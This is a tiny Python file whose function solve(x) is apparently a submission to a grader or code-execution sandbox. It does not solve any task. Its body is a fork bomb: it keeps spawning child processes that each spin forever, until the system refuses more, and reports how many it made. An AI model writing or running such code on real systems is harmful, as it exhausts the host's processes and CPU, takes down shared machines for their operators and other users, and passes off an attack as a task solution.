import os


def solve(x):
    children = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
            children += 1
        except OSError:
            return {"children": children}
